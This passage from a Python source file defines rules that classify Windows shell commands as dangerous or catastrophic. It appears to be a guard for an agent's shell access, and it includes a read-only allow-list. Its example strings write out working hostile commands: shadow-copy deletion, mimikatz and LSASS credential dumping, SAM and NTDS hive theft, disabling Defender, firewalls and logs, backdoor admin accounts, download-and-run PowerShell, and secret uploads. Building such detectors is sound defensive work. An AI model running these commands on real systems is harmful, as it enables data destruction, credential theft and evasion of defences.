    rule("win.wipe", DANGEROUS, "windows fs", "overwrites free space or files so they cannot be recovered",
         names="cipher sdelete sdelete64", tier=IRREVERSIBLE,
         test=lambda c: c.name != "cipher" or any(a.lower().startswith(("/w", "/x")) for a in c.args),
         examples=["cipher /w:C:\\", "sdelete -z C:"], counter=["cipher /?"]),
    rule("win.sdelete-root", CATASTROPHIC, "windows fs", "securely deletes a root so it cannot be recovered",
         names="sdelete sdelete64", tier=IRREVERSIBLE, test=_sdelete_root,
         examples=["sdelete -s -q C:\\Users"], counter=["sdelete -s build"]),
    rule("win.shadow-delete", CATASTROPHIC, "windows evasion", "deletes volume shadow copies or backups (a ransomware step)",
         names="vssadmin wmic wbadmin", tier=IRREVERSIBLE,
         test=lambda c: (c.name == "vssadmin" and (_lower(c)[:2] == ["delete", "shadows"] or _vss_resize_small(c))
                         or c.name == "wmic" and _wmic_delete(c) or c.name == "wbadmin" and _wbadmin(c)),
         examples=["vssadmin delete shadows /all /quiet", "wmic shadowcopy delete", "wbadmin delete catalog -quiet",
                   "vssadmin resize shadowstorage /for=C: /on=C: /maxsize=401MB",
                   "vssadmin.exe Delete Shadows /For=C: /Oldest /Quiet"],
         counter=["vssadmin list shadows", "vssadmin resize shadowstorage /for=C: /on=C: /maxsize=20%"]),
    rule("win.diskshadow", CATASTROPHIC, "windows evasion", "diskshadow is told to delete shadow copies",
         names="diskshadow", tier=IRREVERSIBLE,
         test=lambda c: "delete shadows" in ((c.stdin or "") + " " + c.upstream).lower(),
         examples=["echo delete shadows all | diskshadow"], counter=["diskshadow /?"]),
    rule("win.vss", DANGEROUS, "windows evasion", "changes shadow copies or backups", names="vssadmin wbadmin diskshadow",
         test=lambda c: not c.args or _lower(c)[0] not in ("list", "get", "/?"),
         examples=["vssadmin create shadow /for=C:", "wbadmin start backup"], counter=["vssadmin list writers"]),
    rule("win.boot-delete", CATASTROPHIC, "windows evasion", "deletes boot entries or turns off recovery and integrity checks",
         names="bcdedit", tier=IRREVERSIBLE, test=_bcd_catastrophic,
         examples=["bcdedit /set {default} recoveryenabled No", "bcdedit /set {default} bootstatuspolicy ignoreallfailures",
                   "bcdedit /delete {current} /f", "bcdedit.exe /deletevalue {bootmgr} device", "bcdedit /set testsigning on"],
         counter=["bcdedit /enum"]),
    rule("win.boot", DANGEROUS, "windows evasion", "changes the boot configuration or boot records",
         names="bcdedit bootrec bcdboot bootsect", tier=IRREVERSIBLE,
         test=lambda c: c.name != "bcdedit" or _bcd_changes(c),
         examples=["bcdedit /set {current} safeboot minimal", "bootrec /fixmbr"],
         counter=["bcdedit /enum all /v", "bcdedit"]),
    rule("win.recovery-off", CATASTROPHIC, "windows evasion", "turns off the Windows Recovery Environment",
         names="reagentc", tier=IRREVERSIBLE, test=lambda c: "/disable" in _lower(c),
         examples=["reagentc /disable"], counter=["reagentc /info"]),
    rule("win.recovery", DANGEROUS, "windows evasion", "changes the Windows Recovery Environment", names="reagentc",
         test=lambda c: "/info" not in _lower(c), examples=["reagentc /setreimage /path R:\\x"], counter=["reagentc /info"]),
    rule("win.registry-delete-system", CATASTROPHIC, "windows evasion",
         "deletes system registry keys (SYSTEM, SAM, SECURITY, BCD or the core of SOFTWARE)",
         names="reg", tier=IRREVERSIBLE, test=_reg_delete_system,
         examples=["reg delete HKLM\\SYSTEM\\CurrentControlSet\\Control\\SafeBoot /f", "reg delete HKEY_LOCAL_MACHINE\\SYSTEM /va /f",
                   "reg delete \"HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Winlogon\" /f"],
         counter=["reg delete HKCU\\Software\\Acme\\Editor /f", "reg delete HKLM\\SOFTWARE\\Acme /f"]),
    rule("win.registry-security", CATASTROPHIC, "windows evasion",
         "turns off Defender, the firewall, LSA protection or UAC in the registry",
         names="reg", tier=IRREVERSIBLE, test=_reg_security,
         examples=["reg add \"HKLM\\SOFTWARE\\Policies\\Microsoft\\Windows Defender\" /v DisableAntiSpyware /t REG_DWORD /d 1 /f",
                   "reg add HKLM\\SYSTEM\\CurrentControlSet\\Services\\WinDefend /v Start /t REG_DWORD /d 4 /f",
                   "reg add HKLM\\SYSTEM\\CurrentControlSet\\Control\\SecurityProviders\\WDigest /v UseLogonCredential /t REG_DWORD /d 1"],
         counter=["reg add HKCU\\Software\\Acme /v Theme /d dark /f"]),
    rule("win.registry-hive-dump", CATASTROPHIC, "windows creds", "saves the SAM, SYSTEM or SECURITY hive (password hashes)",
         names="reg", tier=IRREVERSIBLE, test=_reg_save,
         examples=["reg save HKLM\\SAM C:\\temp\\sam.hiv", "reg save hklm\\system system.save"],
         counter=["reg export HKCU\\Software\\Acme acme.reg"]),
    rule("win.registry", DANGEROUS, "windows evasion", "changes, loads or exports the registry", names="reg regedit regini",
         test=lambda c: c.name != "reg" or (bool(c.operands) and c.operands[0].lower() in (
             "add", "delete", "import", "load", "unload", "restore", "copy", "save", "export", "flags")),
         examples=["reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v x /d evil.exe",
                   "reg export HKCU\\Software\\Acme acme.reg"],
         counter=["reg query HKCU\\Software"]),
    rule("win.service-security", CATASTROPHIC, "windows evasion",
         "stops, deletes or disables a security, logging or recovery service (Defender, firewall, event log, VSS)",
         names="sc net net1", tier=IRREVERSIBLE,
         test=lambda c: _sc_security(c) if c.name == "sc" else _net_stop_security(c),
         examples=["sc stop WinDefend", "sc.exe config WinDefend start= disabled", "sc delete WinDefend", "sc delete VSS",
                   "sc config MpsSvc start= disabled", "net stop \"Windows Defender Antivirus Service\"", "sc delete EventLog"],
         counter=["sc query WinDefend", "sc stop Spooler"]),
    rule("win.service-delete", DANGEROUS, "windows exec", "deletes a service", names="sc", tier=IRREVERSIBLE,
         test=lambda c: bool(c.args) and c.args[0].lower() == "delete",
         examples=["sc delete AcmeUpdater"], counter=["sc qc AcmeUpdater"]),
    rule("win.service", DANGEROUS, "windows exec", "starts, stops, creates or reconfigures a service", names="sc net net1",
         test=_service_change,
         examples=["sc stop Spooler", "sc create x binPath= C:\\x.exe", "net stop Spooler"], counter=["net start"]),
    rule("win.firewall-off", CATASTROPHIC, "windows net evasion", "turns off the Windows firewall", names="netsh",
         tier=IRREVERSIBLE, test=_netsh_firewall_off,
         examples=["netsh advfirewall set allprofiles state off", "netsh firewall set opmode disable",
                   "netsh advfirewall set currentprofile state off"],
         counter=["netsh advfirewall show allprofiles"]),
    rule("win.netsh", DANGEROUS, "windows net", "changes network, firewall or proxy settings", names="netsh",
         test=_netsh_changes, examples=["netsh advfirewall firewall add rule name=x dir=in action=allow protocol=TCP localport=4444",
                                        "netsh interface portproxy add v4tov4 listenport=80 connectaddress=10.0.0.1"],
         counter=["netsh interface ip show config"]),
    rule("win.wifi-keys", CATASTROPHIC, "windows creds", "prints saved Wi-Fi passwords in clear text", names="netsh",
         tier=IRREVERSIBLE, test=_wifi_keys,
         examples=["netsh wlan show profile name=\"Office\" key=clear"], counter=["netsh wlan show profiles"]),
    rule("win.defender-definitions", CATASTROPHIC, "windows evasion", "removes Defender's malware definitions",
         names="mpcmdrun", tier=IRREVERSIBLE, test=_mpcmdrun,
         examples=["\"C:\\Program Files\\Windows Defender\\MpCmdRun.exe\" -RemoveDefinitions -All"],
         counter=["MpCmdRun.exe -SignatureUpdate"]),
    rule("win.defender-feature", CATASTROPHIC, "windows evasion", "removes the Windows Defender feature", names="dism",
         tier=IRREVERSIBLE, test=_dism_defender,
         examples=["dism /online /disable-feature /featurename:Windows-Defender /remove /norestart"],
         counter=["dism /online /get-features"]),
    rule("win.eventlog-clear", CATASTROPHIC, "windows evasion", "clears, disables or uninstalls Windows event logs",
         names="wevtutil", tier=IRREVERSIBLE, test=_wevtutil_clear,
         examples=["wevtutil cl Security", "wevtutil clear-log System", "wevtutil sl Security /e:false",
                   "for /F \"tokens=*\" %1 in ('wevtutil.exe el') DO wevtutil.exe cl \"%1\""],
         counter=["wevtutil el", "wevtutil qe Security /c:5 /rd:true /f:text"]),
    rule("win.audit-off", CATASTROPHIC, "windows evasion", "clears or disables the security audit policy", names="auditpol",
         tier=IRREVERSIBLE, test=_auditpol_off,
         examples=["auditpol /clear /y", "auditpol /set /category:* /success:disable /failure:disable"],
         counter=["auditpol /get /category:*"]),
    rule("win.usn-delete", DANGEROUS, "windows evasion", "deletes the NTFS change journal", names="fsutil",
         test=lambda c: "deletejournal" in _lower(c), examples=["fsutil usn deletejournal /d C:"],
         counter=["fsutil fsinfo drives"]),
    rule("win.mimikatz", CATASTROPHIC, "windows creds", "runs a credential dumping tool",
         names="mimikatz mimikatz64 mimilib pypykatz lazagne secretsdump secretsdump.py impacket-secretsdump gsecdump pwdump"
               " pwdump7 fgdump wce nanodump dumpert ppldump safetykatz sharpkatz rubeus kekeo",
         tier=IRREVERSIBLE, examples=["mimikatz.exe \"privilege::debug\" \"sekurlsa::logonpasswords\" exit",
                                      "lazagne.exe all", "secretsdump.py -sam sam.save -system system.save LOCAL"],
         counter=["dir"]),
    rule("win.mimikatz-commands", CATASTROPHIC, "windows creds", "mimikatz commands that dump credentials or tickets",
         raw="always", needles="sekurlsa lsadump kerberos:: dpapi:: vault:: privilege::debug token::elevate misc::memssp",
         tier=IRREVERSIBLE,
         args=r"(?i)\b(?:sekurlsa|lsadump|kerberos|dpapi|vault|crypto|token|misc)::(?:\w{2,30})|privilege::debug",
         examples=["x.exe privilege::debug sekurlsa::logonpasswords"], counter=["echo sekurlsa"]),
    rule("win.lsass-dump", CATASTROPHIC, "windows creds", "dumps the memory of LSASS (every logged-on password)",
         names="procdump procdump64 sqldumper createdump rdrleakdiag rundll32 dumpert nanodump ppldump", tier=IRREVERSIBLE,
         test=lambda c: _lsass_dump(c) or c.name == "rundll32" and _comsvcs(c),
         examples=["procdump64.exe -accepteula -ma lsass.exe lsass.dmp",
                   "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 624 C:\\temp\\l.dmp full"],
         counter=["procdump -ma notepad.exe"]),
    rule("win.ntds-dump", CATASTROPHIC, "windows creds", "copies the domain's password database (NTDS.dit) or the SAM hives",
         names="ntdsutil esentutl copy xcopy robocopy copy-item cp vssadmin expand get-content type cat more findstr"
               " select-string format-hex certutil", tier=IRREVERSIBLE, cite=True,
         test=lambda c: _ntdsutil(c) if c.name == "ntdsutil" else _esentutl(c) if c.name == "esentutl" else _hive_copy(c),
         examples=["ntdsutil \"ac i ntds\" \"ifm\" \"create full c:\\temp\\ifm\" q q",
                   "esentutl.exe /y /vss C:\\Windows\\NTDS\\ntds.dit /d C:\\temp\\ntds.dit",
                   "copy \\\\?\\GLOBALROOT\\Device\\HarddiskVolumeShadowCopy1\\Windows\\System32\\config\\SAM C:\\temp\\SAM"],
         counter=["copy a.txt b.txt", "ntdsutil /?"]),
    rule("win.credential-files", DANGEROUS, "windows creds",
         "reads Windows credential stores (DPAPI keys, saved credentials, browser logins, unattended-setup passwords)",
         names="get-content type cat more copy copy-item xcopy robocopy findstr select-string format-hex certutil"
               " compress-archive expand-archive", tier=IRREVERSIBLE, test=lambda c: _credential_file(c), cite=True,
         examples=["type %APPDATA%\\Microsoft\\Credentials\\DFBE70A7E5CC19A398EBF1B96859CE5D",
                   "Get-Content C:\\Windows\\Panther\\unattend.xml",
                   "copy \"%LOCALAPPDATA%\\Google\\Chrome\\User Data\\Default\\Login Data\" x.db",
                   "gc (Get-PSReadLineOption).HistorySavePath",
                   "Get-Content $env:APPDATA\\Microsoft\\Windows\\PowerShell\\PSReadLine\\ConsoleHost_history.txt"],
         counter=["type notes.txt"]),
    rule("win.admin-anyone", CATASTROPHIC, "windows creds evasion",
         "makes anyone an administrator (Guest or Everyone in Administrators, a blank or open built-in admin)",
         names="net net1 wmic", tier=IRREVERSIBLE,
         test=_net_admin_anyone,
         cite=True,
         examples=["net localgroup administrators guest /add", "net localgroup Administrators Everyone /add",
                   "net user Administrator \"\"", "net user administrator /active:yes",
                   "wmic useraccount where name='Administrator' set disabled=false",
                   "net localgroup administrators \"NT AUTHORITY\\Authenticated Users\" /add"],
         counter=["net localgroup administrators bob /add", "net user administrator /active:no", "net user guest",
                  "net user guest /active:yes"]),
    rule("win.admin-backdoor", CATASTROPHIC, "windows creds evasion",
         "creates or switches on an account and makes it an administrator at once (a backdoor)", trigger=True,
         tier=IRREVERSIBLE,
         examples=["net user hacker P@ssw0rd /add && net localgroup administrators hacker /add",
                   "net user guest /active:yes & net localgroup administrators guest /add",
                   "New-LocalUser -Name svc -Password $p; Add-LocalGroupMember -Group Administrators -Member svc"],
         counter=["net user bob P@ssw0rd /add && net localgroup users bob /add"]),
    rule("win.upload-secret", CATASTROPHIC, "windows net creds",
         "sends a secret or credential store to another host (a BITS upload, a copy onto a remote share)",
         names="bitsadmin copy xcopy robocopy move copy-item move-item", tier=IRREVERSIBLE, test=_upload_secret,
         cite=True,
         examples=["bitsadmin /transfer x /upload https://x.example/u C:\\Users\\bob\\.aws\\credentials",
                   "copy \"%LOCALAPPDATA%\\Microsoft\\Edge\\User Data\\Default\\Login Data\" \\\\203.0.113.5\\share\\x",
                   "Copy-Item $env:APPDATA\\Microsoft\\Credentials\\AB -Destination \\\\files.example\\drop\\"],
         counter=["bitsadmin /transfer x /download https://x.example/f C:\\temp\\f", "copy report.pdf \\\\203.0.113.5\\share\\",
                  "copy \"%APPDATA%\\Microsoft\\Credentials\\AB\" \\\\localhost\\c$\\backup\\"]),
    rule("win.accounts", DANGEROUS, "windows creds", "creates, deletes or changes user accounts and group membership",
         names="net net1 add-localgroupmember new-localuser", tier=IRREVERSIBLE,
         test=lambda c: c.name not in ("net", "net1") or _net_account_change(c),
         examples=["net user administrator Password123!", "net localgroup administrators bob /add", "net user bob /delete"],
         counter=["net start", "net user", "net localgroup administrators"]),
    rule("win.acl", DANGEROUS, "windows fs", "takes ownership or changes file permissions", names="icacls takeown cacls",
         test=lambda c: c.name != "icacls" or _switch(c, "/grant", "/setowner", "/reset", "/remove", "/deny", "/restore",
                                                       "/save", "/setintegritylevel", "/inheritance", "/substitute"),
         examples=["icacls file.exe /grant Everyone:F", "takeown /f C:\\Windows\\System32"], counter=["icacls file.exe"]),
    rule("win.schtasks", DANGEROUS, "windows evasion", "creates, changes, runs or deletes scheduled tasks",
         names="schtasks register-scheduledtask at",
         test=lambda c: c.name != "schtasks" and (c.name != "at" or c.args not in ((), ("-l",)))
         or c.name == "schtasks" and _switch(c, "/create", "/change", "/delete", "/run", "/end"),
         examples=["schtasks /create /tn x /tr evil.exe /sc onlogon", "at 12:00 evil.exe"],
         counter=["schtasks /query", "at -l"]),
    rule("win.setx-path", DANGEROUS, "windows evasion", "changes persistent environment variables", names="setx",
         examples=["setx PATH \"C:\\malicious;%PATH%\""], counter=["set"]),
    rule("win.path", DANGEROUS, "windows evasion", "changes the search path for programs", names="path",
         test=lambda c: bool(c.args), examples=["path C:\\tools;%PATH%"], counter=["path"]),
    rule("win.sort-output", DANGEROUS, "windows fs", "sort /o writes its result to a file", names="sort",
         test=_sort_output, examples=["sort /o out.txt in.txt"], counter=["sort in.txt"]),
    rule("win.set-clock", DANGEROUS, "windows", "sets the system date or time", names="date time",
         test=lambda c: _sets_clock(c) and not any(a.lower() == "/t" for a in c.args),
         examples=["date 01-01-2020", "date -s '2020-01-01'", "date --set=yesterday", "date -us @0", "date 0101000020"],
         counter=["date /t", "date +%F", "date -d @1700000000", "date -d yesterday +%F", "date --date='2 days ago'",
                  "date -ud @0 +%s", "date -r file.txt", "date -Iseconds", "date -d@0 -u"]),
    rule("win.powershell-download", DANGEROUS, "windows net exec", "PowerShell downloads and runs code", raw="always",
         needles="iex invoke- download iwr bitstransfer webclient",
         tier=IRREVERSIBLE, args=r"(?i)\b(?:iex|invoke-expression)\b|downloadstring|downloadfile|invoke-webrequest|\biwr\b"
                                 r"|start-bitstransfer|net\.webclient",
         examples=["powershell -c \"iex ((New-Object System.Net.WebClient).DownloadString('https://x.example'))\""],
         counter=["powershell -c Get-Date"]),
    rule("win.powershell-encoded", DANGEROUS, "windows obfuscation", "PowerShell runs a base64-encoded command (hidden from review)",
         trigger=True, examples=["powershell -enc SQBFAFgA", "pwsh -ec RwBlAHQALQBEAGEAdABlAA=="], counter=["pwsh -v"]),
    rule("win.powershell-file", DANGEROUS, "windows exec", "PowerShell runs a script file whose contents are not shown",
         trigger=True, examples=["powershell -ep bypass -f x.ps1", "pwsh ./deploy.ps1"], counter=["pwsh -NoProfile -c Get-Date"]),
    rule("win.lolbin", DANGEROUS, "windows exec net", "a built-in Windows binary abused to download or run code",
         names="certutil bitsadmin mshta rundll32 regsvr32 installutil msbuild cmstp wscript cscript forfiles msiexec odbcconf"
               " regasm regsvcs msxsl pcalua syncappvpublishingserver control mavinject",
         tier=IRREVERSIBLE, test=lambda c: c.name != "certutil" or not _certutil_read(c),
         examples=["certutil -urlcache -f https://x.example/m.exe m.exe", "mshta http://x.example/a.hta"],
         counter=["certutil -hashfile setup.exe SHA256"]),
    rule("win.runas", DANGEROUS, "windows exec", "runs a program as another user or in a new process", names="runas start-process",
         examples=["runas /user:Administrator cmd"], counter=["whoami"]),
    rule("win.taskkill-security", CATASTROPHIC, "windows evasion exec",
         "kills every process, one Windows cannot run without (csrss, lsass, svchost, …) or the antivirus",
         names="taskkill tskill pskill pskill64", tier=IRREVERSIBLE, test=_taskkill_vital, cite=True,
         examples=["taskkill /f /im MsMpEng.exe", "taskkill /F /IM *", "taskkill /f /im csrss.exe", "taskkill /F /IM svchost.exe",
                   "taskkill /f /fi \"STATUS eq RUNNING\"", "taskkill /f /fi \"PID gt 0\"", "pskill lsass"],
         counter=["taskkill /F /IM process.exe", "taskkill /f /fi \"STATUS eq NOT RESPONDING\"",
                  "taskkill /f /fi \"IMAGENAME eq chrome.exe\""]),
    rule("win.wmic-kill", CATASTROPHIC, "windows exec", "wmic terminates every process or one Windows cannot run without",
         names="wmic", tier=IRREVERSIBLE, test=_wmic_kill, cite=True,
         examples=["wmic process delete", "wmic process where \"name like '%'\" delete", "wmic process call terminate",
                   "wmic process where name=\"lsass.exe\" delete", "wmic process where \"ProcessId > 4\" call terminate"],
         counter=["wmic process where name=\"notepad.exe\" delete", "wmic process list brief"]),
    rule("win.taskkill", DANGEROUS, "windows exec", "kills processes", names="taskkill tskill stop-process",
         examples=["taskkill /F /IM process.exe"], counter=["tasklist"]),
    rule("win.wmic", DANGEROUS, "windows exec", "wmic changes the system or starts processes", names="wmic",
         test=lambda c: not _wmic_read(c),
         examples=["wmic process call create \"notepad.exe\"", "wmic useraccount where name='bob' delete"],
         counter=["wmic logicaldisk get caption,freespace,size"]),
    rule("win.write-volume", CATASTROPHIC, "windows fs", "writes raw bytes over a disk or volume", scope="redirect",
         tier=IRREVERSIBLE, test=lambda c: any(winpath.is_device(t) for t in c.out_targets()),
         examples=["type zero.bin > \\\\.\\PhysicalDrive0"], counter=["type x > out.bin"]),
    rule("win.fallback-delete", CATASTROPHIC, "windows fs obfuscation",
         "text that could not be analysed deletes a Windows root", raw="fallback", tier=IRREVERSIBLE,
         needles="remove-item ri rm rd rmdir del erase",
         args=r"(?i)\b(?:remove-item|ri|rm|rd|rmdir|del|erase)\b(?=[^\n;&|]{0,200}\s[-/\u2013](?:r\w{0,7}|s)\b)"
              r"[^\n;&|]{0,200}?[\s\"'(](?:[a-z]:[\\/]?\*?(?=[\"'\s;&|)]|$)|%(?:systemroot|windir|systemdrive|userprofile"
              r"|programfiles)%|\$\{?env:(?:systemroot|windir|systemdrive|userprofile|programfiles)|\$home\b)",
         examples=["Remove-Item -Recurse -Force C:\\ " + "; Get-Date" * 3000, "rd /s /q %SystemRoot% (x"],
         counter=["rd /s /q build (x"]),
    rule("win.fallback-system", CATASTROPHIC, "windows evasion obfuscation",
         "unanalysed text deletes shadow copies or boot entries, clears logs, or turns off Defender or the firewall",
         raw="fallback", tier=IRREVERSIBLE,
         needles="vssadmin shadowcopy bcdedit wevtutil clear-eventlog set-mppreference advfirewall format reg",
         args=r"(?i)\bvssadmin(?:\.exe)?\s{1,4}delete\s{1,4}shadows|\bshadowcopy\s{1,4}delete|\bbcdedit(?:\.exe)?\s{1,4}/delete"
              r"|\bwevtutil(?:\.exe)?\s{1,4}(?:cl|clear-log)\b|\bclear-eventlog\b|\bset-mppreference\s[^\n;|]{0,200}-disable\w{0,40}"
              r"\s{1,4}(?:\$true|1)\b|\badvfirewall\s{1,4}set\s{1,4}\w{1,20}\s{1,4}state\s{1,4}off|\bformat(?:\.com)?\s{1,4}[a-z]:"
              r"|\breg(?:\.exe)?\s{1,4}(?:delete|save)\s{1,4}[\"']?(?:hklm|hkey_local_machine)[\\/](?:system|sam|security)\b",
         examples=["vssadmin delete shadows /all /quiet " + "; Get-Date" * 3000, "wevtutil cl Security (x"],
         counter=["vssadmin list shadows (x"]),
    rule("win.wsl-delete-root", CATASTROPHIC, "windows fs", "recursively deletes a Windows root through its WSL mount (/mnt/c)",
         names="rm", tier=IRREVERSIBLE, test=lambda c: bool({"-r", "-R", "--recursive"} & c.flags) and any(
             _WSL_MOUNT.fullmatch(op) and winpath.is_root(_WSL_MOUNT.sub(r"\1:/\2", op)) for op in c.operands),
         examples=["rm -rf /mnt/c/Windows", "wsl rm -rf /mnt/c/Users/bob", "rm -rf /mnt/d/"], counter=["rm -rf /mnt/c/src/build"]),
    rule("win.wsl-boot-file", CATASTROPHIC, "windows fs", "deletes or moves a file Windows needs to boot through WSL's mount",
         names="rm mv shred unlink", tier=IRREVERSIBLE, cite=True,
         test=lambda c: next((op for op in (c.operands if c.name != "mv" else c.operands[:-1])
                              if _WSL_MOUNT.fullmatch(op) and winpath.is_boot(_WSL_MOUNT.sub(r"\1:/\2", op))), False),
         examples=["rm -f /mnt/c/bootmgr", "wsl rm /mnt/c/Windows/System32/hal.dll", "mv /mnt/c/Windows/System32/winload.efi /tmp/"],
         counter=["rm -f /mnt/c/src/boot.log"]),
    rule("win.wsl-admin", DANGEROUS, "windows exec", "installs, removes, imports or shuts down WSL distributions",
         trigger=True, tier=IRREVERSIBLE, examples=["wsl --unregister Ubuntu", "wsl --shutdown"], counter=["wsl --list"]),
    rule("win.fork-bomb", CATASTROPHIC, "windows exec", "a batch fork bomb: starts itself until the machine stops",
         raw="always", needles="%0", tier=IRREVERSIBLE, args=r"%0\s{0,4}\|\s{0,4}%0|start\s{1,4}(?:\"\"\s{1,4})?%0\b",
         examples=["%0|%0", ":a & start %0 & goto a"], counter=["echo %0"]),
]


def _net_account_change(cmd: Command) -> bool:
    args = _lower(cmd)
    if not args or args[0] not in ("user", "localgroup", "group", "accounts"):
        return False
    if args[0] == "accounts":
        return any(a.startswith("/") and a != "/domain" for a in args[1:])
    positional = [a for a in args[1:] if not a.startswith("/")]
    switches = [a for a in args[1:] if a.startswith("/") and a != "/domain"]
    return bool(switches) or args[0] == "user" and len(positional) > 1 or args[0] != "user" and len(positional) > 1


def _certutil_read(cmd: Command) -> bool:
    args = _lower(cmd)
    return bool(args) and args[0] in ("-hashfile", "-dump", "-store", "-viewstore", "-verify") and not any(
        a.startswith(("http:", "https:", "ftp:", "\\\\")) or a in ("-urlcache", "-f", "-split", "-decode", "-encode")
        for a in args)


_WMIC_READ = re.compile(r"(?i)(?:get|list)\b")


def _wmic_read(cmd: Command) -> bool:
    """`wmic <alias> [where …] get|list …` with a built-in output format (a URL /format runs a stylesheet)."""
    args = _lower(cmd)
    if any(a.startswith(("/node", "/user", "/password", "/record", "/output", "/append")) for a in args):
        return False
    formats = [a.split(":", 1)[1] if ":" in a else "" for a in args if a.startswith("/format")]
    if any(f.strip('"') not in ("list", "table", "csv", "htable", "value", "hform", "textvaluelist", "rawxml", "xml", "")
           for f in formats):
        return False
    words = [a for a in args if not a.startswith("/")]
    return any(w in ("get", "list") for w in words) and not any(
        w in ("call", "set", "delete", "create", "assoc") for w in words)


def _no_operands(args: list[str]) -> str | None:
    return None if not args else "takes no operands here"


def _reg_query(args: list[str]) -> str | None:
    """A local key (`\\\\host\\HKLM\\…` reads another machine's registry over the network)."""
    if not args or registry_key(args[0]) is None:
        return "reg query needs a registry key"
    return "reg query of another machine" if args[0].startswith(("\\\\", "//")) else None


def _netsh_show(cmd: Command) -> str | None:
    """`netsh [context …] show …`: every word before `show` names a context, nothing after it sets."""
    args = _lower(cmd)
    if "show" not in args or any(a.startswith(("-r", "/r", "-u", "-p", "-f", "exec", "set", "add", "delete")) for a in args):
        return "netsh: only `… show …` is read-only"
    if "key=clear" in args:
        return "netsh: key=clear prints a saved password"
    contexts = args[:args.index("show")]
    return None if all(re.fullmatch(r"[a-z0-9]{1,20}", c) for c in contexts) else "netsh: unknown context"


def _net(cmd: Command) -> str | None:
    args = _lower(cmd)
    if not args:
        return "net: no sub-command"
    sub, rest = args[0], args[1:]
    switches = [a for a in rest if a.startswith("/")]
    positional = [a for a in rest if not a.startswith("/")]
    allowed = {"user": ({"/domain"}, 1), "localgroup": ({"/domain"}, 1), "group": ({"/domain"}, 1),
               "accounts": ({"/domain"}, 0), "start": (set(), 0), "share": (set(), 1), "use": (set(), 0),
               "session": (set(), 0), "view": ({"/all"}, 1), "config": (set(), 1), "statistics": (set(), 1),
               "file": (set(), 0), "time": ({"/domain", "/querysntp"}, 1), "helpmsg": (set(), 1), "help": (set(), 2)}
    if sub not in allowed:
        return f"net {sub}: not a read-only sub-command"
    switches_ok, most = allowed[sub]
    if any(s.split(":", 1)[0] not in switches_ok for s in switches) or len(positional) > most:
        return f"net {sub}: changes something"
    if sub == "share" and positional and "=" in positional[0]:
        return "net share NAME=PATH creates a share"
    return None


def _wmic(cmd: Command) -> str | None:
    return None if _wmic_read(cmd) else "wmic: only get and list are read-only"


def _fc(cmd: Command) -> str | None:
    operands = [a for a in cmd.args if not a.startswith("/")]
    switches = [a.lower() for a in cmd.args if a.startswith("/")]
    if len(operands) != 2:
        return "fc compares two files"
    return None if all(re.fullmatch(r"/(?:a|b|c|l|lb\d+|n|off(?:line)?|t|u|w|\d+)", s) for s in switches) else "fc: unknown switch"


def _dism(cmd: Command) -> str | None:
    """`dism /online /get-…` (features, packages, capabilities, drivers, editions): every other operation changes
    the image or the running system."""
    args = _lower(cmd)
    gets = [a for a in args if a.startswith("/get-")]
    rest = [a for a in args if not a.startswith("/get-") and a.split(":", 1)[0] not in (
        "/online", "/english", "/format", "/featurename", "/packagename", "/capabilityname", "/driver", "/all",
        "/limitaccess", "/?")]
    if len(gets) != 1 or rest:
        return f"dism: only one /get-… with /online is known to be read-only ({' '.join(rest or args)})"
    return None


def _windows(flags: str = "", valued: str = "", **kwargs) -> Options:
    return options(flags + " /?", valued, slash=True, fold=True, **kwargs)


def _subs(table: dict[str, Options]) -> Options:
    """Sub-commands compared case-insensitively (`reg QUERY`, `schtasks /Query`)."""
    return Options(subcommands=table, fold=True)


_VSS_LISTS = frozenset({"shadows", "writers", "providers", "volumes", "shadowstorage"})


def _vssadmin(cmd: Command) -> str | None:
    args = _lower(cmd)
    if len(args) < 2 or args[0] != "list" or args[1] not in _VSS_LISTS:
        return "vssadmin: only list is read-only"
    extra = [a for a in args[2:] if not re.fullmatch(r"/(?:for|on|shadow|set)=\S{1,200}", a)]
    return None if not extra else "vssadmin list: unknown option"


_SC_READ = _windows(operands=None)
READ_ONLY: dict[str, Proof] = {
    "ipconfig": _windows("/all /displaydns /allcompartments", operands=_no_operands),
    "tasklist": _windows("/v /svc /m /nh /apps", "/fo /fi"),
    "systeminfo": _windows("/nh", "/fo", operands=_no_operands),
    "driverquery": _windows("/v /si /nh", "/fo", operands=_no_operands),
    "getmac": _windows("/v /nh", "/fo", operands=_no_operands),
    "where": _windows("/q /f /t", "/r"),
    "findstr": _windows("/b /e /l /r /s /i /x /v /n /m /o /p /offline /off", "/c /d /a /g /f", attached="/c /d /a"),
    "fc": lambda cmd: _fc(cmd),
    "ver": _windows(operands=_no_operands),
    "vol": _windows(),
    "reg": _subs({"query": _windows("/s /se /ve /k /d /c /e /z /x", "/v /f /t /reg", attached="/reg", operands=_reg_query)}),
    "sc": _subs({name: _SC_READ for name in (
        "query", "queryex", "qc", "qdescription", "qfailure", "qfailureflags", "qsidtype", "qprivs", "qtriggerinfo",
        "qpreferrednode", "qmanagedaccount", "qprotection", "quserservice", "enumdepend", "getdisplayname",
        "getkeyname", "sdshow", "showsid")}),
    "netsh": _netsh_show,
    "net": _net,
    "vssadmin": _vssadmin,
    "bcdedit": _windows("/enum /v", operands=lambda a: None if all(
        x.lower() in ("all", "bootapp", "bootmgr", "osloader", "resume", "inherit", "firmware", "active") or
        re.fullmatch(r"\{[\w-]{1,40}\}", x) for x in a) else "bcdedit: only /enum is read-only"),
    "wmic": _wmic,
    "schtasks": _subs({"/query": _windows("/v /nh /xml /hresult", "/fo /tn", attached="/xml")}),
    "wevtutil": _subs({
        "el": _windows(), "enum-logs": _windows(), "ep": _windows(), "enum-publishers": _windows(),
        "gl": _windows("/f", attached="/f"), "get-log": _windows("/f", attached="/f"),
        "gli": _windows("/lf", attached="/lf"), "get-loginfo": _windows("/lf", attached="/lf"),
        "gp": _windows("/ge /gm /f", attached="/ge /gm /f"), "get-publisher": _windows("/ge /gm /f", attached="/ge /gm /f"),
        "qe": _windows("/lf /sq /q /bm /rd /f /c /e /l", attached="/lf /sq /q /bm /rd /f /c /e /l"),
        "query-events": _windows("/lf /sq /q /bm /rd /f /c /e /l", attached="/lf /sq /q /bm /rd /f /c /e /l"),
    }),
    "auditpol": _windows("/get /list /r", "/category /subcategory /user", attached="/category /subcategory /user /sd",
                         operands=_no_operands),
    "gpresult": _windows("/r /v /z /scope", "/scope /user", operands=_no_operands),
    "icacls": _windows("/t /c /l /q"),
    "query": _subs({"user": _windows(), "session": _windows(), "process": _windows()}),
